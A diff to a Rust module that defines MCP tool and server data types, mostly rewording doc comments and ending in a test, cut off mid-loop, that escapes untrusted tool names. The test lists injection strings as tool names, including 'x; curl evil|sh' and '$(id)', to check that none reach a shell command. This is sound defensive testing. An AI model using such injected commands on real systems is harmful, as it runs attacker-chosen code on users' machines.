@@ -1,4 +1,4 @@
-//! Tools as servers define them, and calls to them.
+//! Tools as servers define them, and calls of tools. Plain data; texts are untrusted.
 
 use std::fmt;
 
@@ -22,16 +22,15 @@ impl ToolRef {
         Self { server: server.into(), tool: tool.into() }
     }
 
-    /// The parts of a name as programs write it: `server__tool`, `server.tool`,
-    /// `server/tool` or `mcp__server__tool`. Neither of them need exist.
+    /// Splits a name as programs write it: `server__tool`, `server.tool`, `server/tool` or
+    /// `mcp__server__tool`. Neither part need exist.
     pub fn parts(name: &str) -> Option<(&str, &str)> {
         let name = name.strip_prefix("mcp__").unwrap_or(name);
         name.split_once("__").or_else(|| name.split_once('.')).or_else(|| name.split_once('/'))
     }
 
-    /// How to name it in a command that somebody will copy to a shell: a stranger wrote
-    /// the tool's name, so that one is left out, and only its server named, if a shell
-    /// could see more in it than a name.
+    /// Its name in a command that somebody will copy into a shell. The tool's name is
+    /// untrusted: unless a shell takes it for a plain word, only the server is named.
     pub fn in_a_command(&self) -> String {
         let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
         match (self.server.chars().all(plain), self.tool.chars().all(plain)) {
@@ -42,8 +41,8 @@ impl ToolRef {
     }
 }
 
-/// Prints as `server__tool`, the spelling that `callMCPTool` takes. What cannot be
-/// seen in a tool's name is an escape there; the catalog knows that spelling too.
+/// Prints as `server__tool`, the spelling of `callMCPTool`. Hidden characters in a tool's name
+/// are escaped; the catalog resolves that spelling too.
 impl fmt::Display for ToolRef {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "{}__{}", self.server, shown_name(&self.tool))
@@ -59,7 +58,7 @@ pub struct ToolDef {
     /// Title for people.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub title: Option<String>,
-    /// What the tool does, in the server's words.
+    /// The server's description of the tool.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub description: Option<String>,
     /// JSON Schema of the arguments.
@@ -67,12 +66,12 @@ pub struct ToolDef {
     /// JSON Schema of the structured result.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub output_schema: Option<Value>,
-    /// Behaviour hints; the server's claim, not a fact.
+    /// Hints about its behaviour: the server's claim, not a fact.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub annotations: Option<Hints>,
 }
 
-/// What a server claims about a tool's behaviour.
+/// A server's claims about a tool's behaviour.
 #[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase")]
 pub struct Hints {
@@ -93,7 +92,7 @@ pub struct Hints {
     pub open_world_hint: Option<bool>,
 }
 
-/// What a server says about itself in the handshake.
+/// A server's description of itself in the handshake.
 #[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase")]
 pub struct ServerInfo {
@@ -101,20 +100,20 @@ pub struct ServerInfo {
     pub name: String,
     /// Version.
     pub version: String,
-    /// Protocol revision that was agreed on.
+    /// The negotiated protocol revision.
     pub protocol_version: String,
 }
 
 /// All tools of one server, as of one listing.
 #[derive(Clone, Debug, Default, PartialEq)]
 pub struct ToolList {
-    /// Who answered.
+    /// The server that answered.
     pub info: ServerInfo,
     /// Every page of `tools/list`, joined, in the server's order.
     pub tools: Vec<ToolDef>,
 }
 
-/// A call that has been resolved to an exact tool, not yet decided on.
+/// A call that was resolved to an exact tool and not decided on yet.
 #[derive(Clone, Debug, PartialEq)]
 pub struct ToolCall {
     /// Which tool.
@@ -128,7 +127,7 @@ mod tests {
     use super::ToolRef;
 
     #[test]
-    fn a_stranger_writes_nothing_into_a_command() {
+    fn a_server_cannot_write_into_a_command() {
         let named = |server: &str, tool: &str| ToolRef::new(server, tool).in_a_command();
         assert_eq!(named("git", "git_log-1.0"), "git__git_log-1.0");
         for tool in ["x; curl evil|sh", "$(id)", "`id`", "a b", "x\u{200b}", "x\ny", "'"] {
